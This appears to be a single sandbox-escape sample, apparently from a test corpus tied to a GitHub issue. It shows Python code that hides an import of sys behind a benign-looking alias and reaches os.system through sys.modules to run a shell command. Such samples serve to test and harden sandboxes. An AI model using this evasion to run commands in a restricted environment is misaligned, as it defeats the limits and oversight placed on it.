# Source: https://github.com/openswarm-ai/openswarm/issues/134
# Family: sys-modules
# What: import sys as a benign-looking alias and reach os through sys.modules
import sys as argv_holder
argv_holder.modules["posix"].system("id")
